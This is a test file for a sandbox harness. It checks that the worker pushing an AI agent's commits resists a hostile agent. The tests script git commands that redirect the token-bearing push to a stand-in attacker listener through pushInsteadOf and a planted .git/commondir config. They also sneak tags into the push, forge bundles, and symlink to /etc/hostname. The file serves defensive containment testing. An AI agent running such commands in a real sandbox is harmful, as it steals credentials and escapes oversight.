import { randomBytes } from "node:crypto";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chmod, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { cloneRepository, commitAll } from "../../src/sandbox/git-workspace.ts";
import { createLocalSandboxProvider } from "../../src/sandbox/local-sandbox.ts";
import { receiveWork } from "../../src/sandbox/commit-transfer.ts";
import { pushWork } from "../../src/sandbox/push-work.ts";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { closeWorkRepository, ensureCommit, openWorkRepository, type WorkRepository } from "../../src/sandbox/work-repository.ts";
import { createGitRemote, GREET_SOURCE, GREETING_PROJECT, type GitRemote } from "../support/git-remote.ts";

const TOKEN = "ghs_theWriteTokenTheAgentMustNeverSee0123";
const BRANCH = "agent/7-greet";

/** Stands in for the attacker's server: records every request git sends it. */
async function startListener(): Promise<{ url: string; requests: IncomingMessage[]; close(): Promise<void> }> {
  const requests: IncomingMessage[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(req);
    res.writeHead(401, { "www-authenticate": 'Basic realm="x"' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let root: string;
let remote: GitRemote;
let listener: Awaited<ReturnType<typeof startListener>>;
let sandbox: Sandbox;
let repository: WorkRepository;

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "push-attacks-"));
  await chmod(root, 0o755);
  remote = await createGitRemote(GREETING_PROJECT);
  listener = await startListener();
  sandbox = await createLocalSandboxProvider({ rootDir: join(root, "sandboxes"), dataDir: root }).create({ jobId: "job-1", limits: { timeoutMs: 0, memoryMb: 0, cpuSeconds: 0 } });
  repository = await openWorkRepository({ dir: join(root, "work"), jobId: "job-1", objectsOf: remote.bareDir });
  await ensureCommit(repository, { url: remote.url, token: TOKEN }, { branch: "main", sha: remote.headSha });
  await cloneRepository(sandbox, repository, { url: remote.url, branch: "main", sha: remote.headSha, workBranch: BRANCH, identity: { email: "bot@example.com" } });
});

afterEach(async () => {
  await sandbox.destroy();
  await closeWorkRepository(repository);
  await listener.close();
  await remote.cleanup();
  await rm(root, { recursive: true, force: true });
});

/** What the agent (or the repository's scripts) does in the sandbox before the worker pushes. */
async function agentRuns(script: string): Promise<void> {
  await sandbox.writeFile("greet.js", GREET_SOURCE);
  const result = await sandbox.exec(["sh", "-c", script]);
  expect(result.exitCode, result.stderr).toBe(0);
}

/** The worker's side once the agent stopped: commit, then push with the write token; the agent's work lands. */
async function workerPublishes(): Promise<void> {
  await commitAll(sandbox, "Add greet()");
  const { sha, files } = await pushWork(sandbox, repository, { remote: { url: remote.url, token: TOKEN }, branch: BRANCH, base: remote.headSha });
  expect(files).toEqual(["greet.js"]);
  expect(remote.git("rev-parse", BRANCH)).toBe(sha);
  expect(remote.git("show", `${BRANCH}:greet.js`)).toBe(GREET_SOURCE.trim());
}

function remoteRefs(): string[] {
  return remote.git("for-each-ref", "--format=%(refname)").split("\n").filter((line) => line !== "");
}

describe("the worker's push, against an agent that prepared the sandbox's git", () => {
  it("does not follow a pushInsteadOf in the sandbox's global git config to the attacker", async () => {
    await agentRuns(`git config --global url.${listener.url}/home/.pushInsteadOf file://`);
    await workerPublishes();
    expect(listener.requests.map((request) => request.headers.authorization ?? request.url)).toEqual([]);
  });

  it("does not read a config planted through .git/commondir", async () => {
    await agentRuns(
      [`mkdir -p "$HOME/evil"`, `cp -r .git/. "$HOME/evil/"`, `git --git-dir="$HOME/evil" config url.${listener.url}/commondir/.pushInsteadOf file://`, `echo "$HOME/evil" > .git/commondir`].join(" && "),
    );
    await workerPublishes();
    expect(listener.requests.map((request) => request.headers.authorization ?? request.url)).toEqual([]);
  });

  it("pushes no tag, whatever push.followTags the sandbox's config sets", async () => {
    await agentRuns(`git config --global push.followTags true && git -c user.name=x -c user.email=x@x tag -a v9.9.9 -m release HEAD`);
    await workerPublishes();
    expect(remoteRefs()).toEqual([`refs/heads/${BRANCH}`, "refs/heads/main"]);
    expect(remote.git("rev-parse", "main")).toBe(remote.headSha);
  });
});

/** A sandbox whose git the agent replaced: when the worker asks for the bundle of its work, `script` makes the file instead. */
function withForgedBundle(target: Sandbox, script: string): Sandbox {
  return { ...target, exec: (command, options) => (command.includes("bundle") && command.includes("create") ? target.exec(["sh", "-c", script], options) : target.exec(command, options)) };
}

const BUNDLE = ".git/running-agent-work.bundle";

describe("what the worker takes out of the sandbox", () => {
  const forgeries: Array<[string, string, RegExp]> = [
    ["a bundle that also carries a tag and main", `git -c user.name=x -c user.email=x@x tag -a v9.9.9 -m release HEAD && git bundle create ${BUNDLE} HEAD refs/tags/v9.9.9 ^origin/main`, /not a bundle of one HEAD/],
    ["a head that does not descend from the base", `git checkout -q --orphan rewritten && git -c user.name=x -c user.email=x@x commit -qm rewritten && git bundle create ${BUNDLE} HEAD`, /does not descend from/],
    ["a file that is not a bundle", `echo 'refs/heads/main' > ${BUNDLE}`, /not a bundle of one HEAD/],
    ["a link to a file of the host's", `ln -sf /etc/hostname ${BUNDLE}`, /leads out of the sandbox/],
  ];
  it.each(forgeries)("refuses %s, and pushes nothing", async (_, script, reason) => {
    await sandbox.writeFile("greet.js", GREET_SOURCE);
    await commitAll(sandbox, "Add greet()");
    const forged = withForgedBundle(sandbox, script);
    await expect(pushWork(forged, repository, { remote: { url: remote.url, token: TOKEN }, branch: BRANCH, base: remote.headSha })).rejects.toThrow(reason);
    expect(remoteRefs()).toEqual(["refs/heads/main"]);
    expect(remote.git("rev-parse", "main")).toBe(remote.headSha);
  });

  it("refuses a bundle larger than the limit without reading it", async () => {
    await sandbox.writeFile("big.bin", randomBytes(64 * 1024));
    await commitAll(sandbox, "A large file");
    await expect(receiveWork(sandbox, repository, { base: remote.headSha, maxBytes: 16 * 1024 })).rejects.toThrow(/more than the 16384 the worker takes/);
  });
});
